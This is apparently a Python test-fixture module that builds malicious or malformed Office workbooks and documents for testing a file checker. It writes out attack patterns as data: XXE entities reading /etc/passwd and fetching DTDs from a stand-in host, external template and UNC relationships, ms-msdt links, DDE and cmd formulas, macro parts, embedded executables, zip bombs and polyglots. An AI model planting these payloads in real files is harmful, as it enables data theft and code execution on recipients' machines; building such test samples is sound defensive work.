"""Workbooks and documents that swell, fetch, start or carry something, or are not the archive that they seem to be."""

from collections.abc import Callable
from io import BytesIO
from random import Random
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZipFile

from tests.evidence.honest.office import by_openpyxl, by_python_docx

Parts = dict[str, bytes]
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
TYPES = "[Content_Types].xml"


def _base(chance: Random) -> tuple[str, Parts]:
    name, content = chance.choice([by_openpyxl, by_python_docx])(chance)
    with ZipFile(BytesIO(content)) as archive:
        return name, {part: archive.read(part) for part in archive.namelist()}


def _main(name: str) -> str:
    return "xl/workbook.xml" if name.endswith(".xlsx") else "word/document.xml"


def _relations(name: str) -> str:
    return "xl/_rels/workbook.xml.rels" if name.endswith(".xlsx") else "word/_rels/document.xml.rels"


def packed(parts: Parts, compression: int = ZIP_DEFLATED) -> bytes:
    with ZipFile(content := BytesIO(), "w", compression) as archive:
        for part, text in parts.items():
            archive.writestr(part, text)
    return content.getvalue()


def _before_end(text: bytes, more: bytes) -> bytes:
    at = text.rindex(b"</")
    return text[:at] + more + text[at:]


def _xml_part(chance: Random, parts: Parts) -> str:
    return chance.choice([part for part in parts if part.endswith((".xml", ".rels")) and part != TYPES])


def entities(chance: Random) -> tuple[str, bytes]:
    name, parts = _base(chance)
    part = _xml_part(chance, parts)
    declared = chance.choice(
        [
            b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
            b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
            b'<!DOCTYPE x SYSTEM "http://203.0.113.9/x.dtd">',
            b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://203.0.113.9/x"> %a;]>',
        ]
    )
    text = parts[part]
    head = text.index(b"?>") + 2 if text.startswith(b"<?xml") else 0
    parts[part] = text[:head] + declared + text[head:]
    return name, packed(parts)


def fetched(chance: Random) -> tuple[str, bytes]:
    """A relation that is followed as soon as the file is opened."""
    name, parts = _base(chance)
    kind = chance.choice(
        ["attachedTemplate", "image", "oleObject", "externalLinkPath", "frame", "subDocument", "aFChunk", "hyperlink"]
    )
    target = chance.choice(
        ["http://203.0.113.9/x.dotm", "https://203.0.113.9/x", r"\\203.0.113.9\s\x", "file://203.0.113.9/s/x"]
    )
    if kind == "hyperlink":
        target = chance.choice(
            [r"\\203.0.113.9\s\x", "javascript:x", "ms-msdt:/id x", "search-ms:query=x", "file://203.0.113.9/x"]
        )
    relation = f'<Relationship Id="rIdX" Type="{RELATIONS}{kind}" Target="{target}" TargetMode="External"/>'
    parts[_relations(name)] = _before_end(parts[_relations(name)], relation.encode())
    return name, packed(parts)


def carried(chance: Random) -> tuple[str, bytes]:
    """A program, an object or a whole file, under its own name or under that of a picture."""
    name, parts = _base(chance)
    room = "xl" if name.endswith(".xlsx") else "word"
    part = chance.choice(
        [
            "embeddings/oleObject1.bin",
            "activeX/activeX1.xml",
            "activeX/activeX1.bin",
            "ctrlProps/ctrlProp1.xml",
            "media/image9.png",
        ]
    )
    inside = chance.choice(
        [OLE + chance.randbytes(600), b"MZ" + chance.randbytes(300), b"\x7fELF\x02\x01\x01", b"PK\x03\x04x"]
    )
    parts[f"{room}/{part}"] = b"<x/>" if part.endswith(".xml") else inside
    return name, packed(parts)


def macros(chance: Random) -> tuple[str, bytes]:
    name, parts = _base(chance)
    room = "xl" if name.endswith(".xlsx") else "word"
    if chance.random() < 0.5:
        part = chance.choice(
            ["vbaProject.bin", "VBAPROJECT.BIN", "vbaData.xml", "macrosheets/sheet1.xml", "dialogsheets/sheet1.xml"]
        )
        parts[f"{room}/{part}"] = b"<x/>" if part.endswith("xml") else OLE
        return name, packed(parts)
    declared = chance.choice(
        [
            b'<Override PartName="/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
            b'<Override PartName="/x.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
            b'<Override PartName="/y.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>',
        ]
    )
    parts[TYPES] = _before_end(parts[TYPES], declared)
    return name, packed(parts)


def related_to_a_macro(chance: Random) -> tuple[str, bytes]:
    name, parts = _base(chance)
    kind = chance.choice(
        [
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            RELATIONS + "oleObject",
            RELATIONS + "control",
            "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
            RELATIONS + "package",
            RELATIONS + "aFChunk",
        ]
    )
    parts["custom/item.dat"] = chance.randbytes(40)
    relation = f'<Relationship Id="rIdX" Type="{kind}" Target="/custom/item.dat"/>'.encode()
    parts[_relations(name)] = _before_end(parts[_relations(name)], relation)
    return name, packed(parts)


def asking_another_program(chance: Random) -> tuple[str, bytes]:
    if chance.random() < 0.5:
        name, content = by_openpyxl(chance)
        formula = chance.choice(
            [
                "cmd|'/c x'!A0",
                "msexcel|'\\\\x'!A",
                "CALL(&quot;x&quot;,&quot;y&quot;)",
                "WEBSERVICE(A1)",
                "EXEC(A1)",
                "REGISTER.ID(A1)",
                "SUM(cmd|&apos;/c x&apos;!A0)",
                "c&#109;d|'/c x'!A0",
            ]
        ).encode()
        with ZipFile(BytesIO(content)) as archive:
            parts = {part: archive.read(part) for part in archive.namelist()}
        sheet = parts["xl/worksheets/sheet1.xml"]
        parts["xl/worksheets/sheet1.xml"] = sheet.replace(b"<f>SUM(B1:B40)</f>", b"<f>" + formula + b"</f>")
        return name, packed(parts)
    name, content = by_python_docx(chance)
    with ZipFile(BytesIO(content)) as archive:
        parts = {part: archive.read(part) for part in archive.namelist()}
    document = parts["word/document.xml"]
    code = chance.choice(
        ["DDEAUTO c:\\\\x\\\\cmd.exe &quot;/k x&quot;", "DDE cmd x", "LINK Excel.Sheet.12 x", "INCLUDETEXT x"]
    )
    end = document.rindex(b"<w:sectPr")
    parts["word/document.xml"] = document[:end] + chance.choice(_FIELDS)(code, chance) + document[end:]
    return name, packed(parts)


def _simple(code: str, chance: Random) -> bytes:
    return f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>!</w:t></w:r></w:fldSimple></w:p>'.encode()


def _in_pieces(code: str, chance: Random) -> bytes:
    at = chance.randint(1, 6)
    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (code[:at], code[at:]))
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    outer = chance.random() < 0.5
    return f"<w:p>{begin if outer else ''}{begin}{pieces}{end}{end if outer else ''}</w:p>".encode()


_FIELDS: list[Callable[[str, Random], bytes]] = [_simple, _in_pieces]


def swelling(chance: Random) -> tuple[str, bytes]:
    name, parts = _base(chance)
    size = chance.choice([8, 30, 70]) * 1024 * 1024
    part = chance.choice([_main(name), "docProps/app.xml", "xl/media/image1.png", "word/media/image1.png"])
    parts[part] = b"<x>" + b" " * size + b"</x>"
    return name, packed(parts)


def endless(chance: Random) -> tuple[str, bytes]:
    name, parts = _base(chance)
    return name, packed(parts | {f"x/{number}.xml": b"<x/>" for number in range(1_100)})


def another_file_beside(chance: Random) -> tuple[str, bytes]:
    name, parts = _base(chance)
    content, hidden = (
        packed(parts),
        chance.choice([b"MZ", b"<html>", b"%PDF-1.7\n", b"PK\x03\x04"]) + chance.randbytes(200),
    )
    at = content.index(b"PK\x01\x02")
    return name, chance.choice(
        [hidden + content, content + hidden, content[:at] + hidden + content[at:], content + content]
    )


def damaged(chance: Random) -> tuple[str, bytes]:
    name, parts = _base(chance)
    if chance.random() < 0.2:
        return name, packed(parts, ZIP_BZIP2)
    if chance.random() < 0.3:
        part = _xml_part(chance, parts)
        parts[part] = parts[part][: len(parts[part]) // 2] + chance.choice([b"<", b"\x00", b"&x;", b"</y>"])
        return name, packed(parts)
    content = packed(parts)
    return name, content[: chance.randrange(4, len(content))]


def another_archive(chance: Random) -> tuple[str, bytes]:
    name = chance.choice(["程序.docx", "程序.xlsx"])
    parts = chance.choice(
        [
            {"META-INF/MANIFEST.MF": b"x", "Main.class": b"x"},
            {"AndroidManifest.xml": b"<x/>"},
            {"mimetype": b"application/vnd.oasis.opendocument.text"},
            {},
        ]
    )
    if chance.random() < 0.5:
        return name, (by_python_docx if name.endswith(".xlsx") else by_openpyxl)(chance)[1]
    return name, packed(parts)


MAKERS = (
    entities,
    fetched,
    carried,
    macros,
    related_to_a_macro,
    asking_another_program,
    swelling,
    endless,
    another_file_beside,
    damaged,
    another_archive,
)
